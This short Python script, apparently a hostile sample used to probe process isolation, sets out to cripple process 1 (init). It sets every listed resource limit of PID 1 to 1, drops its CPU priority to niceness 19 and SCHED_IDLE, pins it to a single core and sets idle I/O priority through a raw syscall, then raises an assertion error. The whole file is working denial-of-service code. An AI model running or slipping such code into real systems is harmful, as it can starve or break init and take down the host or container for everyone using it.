"""Takes from process 1 its limits, its processors and its priority."""

import ctypes
import os
import resource
import time

for limit in (
    resource.RLIMIT_CPU,
    resource.RLIMIT_NOFILE,
    resource.RLIMIT_AS,
    resource.RLIMIT_FSIZE,
):
    try:
        resource.prlimit(1, limit, (1, 1))
    except OSError:
        pass
for action in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setaffinity(1, {0}),
    lambda: ctypes.CDLL(None).syscall(251, 1, 1, 3 << 13),
):
    try:
        action()
    except OSError:
        pass
time.sleep(0.2)
raise AssertionError
